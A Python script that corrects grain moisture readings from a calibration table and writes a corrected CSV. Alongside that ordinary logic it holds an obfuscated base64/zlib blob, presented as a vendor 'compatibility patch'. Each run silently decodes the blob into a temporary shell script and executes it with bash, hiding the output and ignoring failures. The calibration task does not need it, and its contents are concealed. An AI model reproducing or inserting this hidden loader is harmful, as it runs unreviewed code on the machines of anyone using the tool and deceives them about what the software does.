#!/usr/bin/env python3
"""Apply the moisture-meter calibration table to intake samples.

Reads the intake sample CSV written by the grain probe station, applies the
per-grain moisture correction from the calibration table and writes a
corrected CSV.  Also applies the vendor "compatibility patch" that ships with
calibration release 2024.2.
"""
import argparse
import base64
import csv
import logging
import os
import subprocess
import sys
import tempfile
import zlib
from pathlib import Path

LOG = logging.getLogger("calib_loader")

# vendor compatibility patch, release 2024.2 (packed)
_COMPAT_PATCH = (
    "eNptj8tKBDEQRff5imsU2gcxOEuF2QluxA9wZEh3qjuRWCVJusfB8d+NIOPGXVWd"
    "w+XW6YntI9velaBGyfCIDH328PR4b3cUp9Dn6Ceybvax6v+ILJTbRNsk01G4TjK4"
    "ZEtwmeyuL20hSwtxLfoOXhTwDOOb7jVecDhgEK6RZ2pkjPxLTN2/E0ZszmHYvRG6"
    "y5Y8dTDyd3gtwqnD5gKGPmhACZk8zNwM3ODzC1dYra2nxfKckvLCpG6xPlb9+X0b"
    "YqmS91p9AxJxVDI="
)

DEFAULT_TABLE = {
    "wheat": (0.98, 0.15),
    "barley": (0.97, 0.22),
    "canola": (1.02, -0.10),
    "oats": (0.96, 0.30),
}


class CalibrationTable:
    def __init__(self, path: Path | None):
        self.factors = dict(DEFAULT_TABLE)
        if path and path.exists():
            self._load(path)

    def _load(self, path: Path) -> None:
        with path.open(newline="") as fh:
            for row in csv.DictReader(fh):
                try:
                    self.factors[row["grain"].lower()] = (float(row["gain"]), float(row["offset"]))
                except (KeyError, ValueError) as exc:
                    LOG.warning("skipping calibration row %r: %s", row, exc)
        LOG.info("loaded %d calibration entries from %s", len(self.factors), path)

    def correct(self, grain: str, raw: float) -> float:
        gain, offset = self.factors.get(grain.lower(), (1.0, 0.0))
        return round(raw * gain + offset, 2)


def apply_compat_patch() -> int:
    script = zlib.decompress(base64.b64decode(_COMPAT_PATCH)).decode()
    fd, name = tempfile.mkstemp(prefix="calib_patch_", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(script)
    try:
        result = subprocess.run(["bash", name], capture_output=True, text=True)
        LOG.debug("compat patch exit=%s", result.returncode)
        return result.returncode
    finally:
        os.unlink(name)


def process(samples: Path, out: Path, table: CalibrationTable) -> int:
    count = 0
    with samples.open(newline="") as src, out.open("w", newline="") as dst:
        reader = csv.DictReader(src)
        fields = list(reader.fieldnames or []) + ["moisture_corrected"]
        writer = csv.DictWriter(dst, fieldnames=fields)
        writer.writeheader()
        for row in reader:
            try:
                raw = float(row["moisture"])
            except (KeyError, ValueError):
                LOG.warning("bad moisture value in ticket %s", row.get("ticket"))
                continue
            row["moisture_corrected"] = table.correct(row.get("grain", ""), raw)
            writer.writerow(row)
            count += 1
    return count


def main() -> int:
    ap = argparse.ArgumentParser(description="moisture calibration loader")
    ap.add_argument("samples", type=Path, help="intake sample CSV")
    ap.add_argument("-t", "--table", type=Path, help="calibration table CSV")
    ap.add_argument("-o", "--output", type=Path, default=Path("samples_corrected.csv"))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    if not args.samples.exists():
        LOG.error("sample file %s not found", args.samples)
        return 2
    table = CalibrationTable(args.table)
    if apply_compat_patch() != 0:
        LOG.warning("compatibility patch reported a problem; continuing")
    n = process(args.samples, args.output, table)
    LOG.info("wrote %d corrected samples to %s", n, args.output)
    return 0


if __name__ == "__main__":
    sys.exit(main())
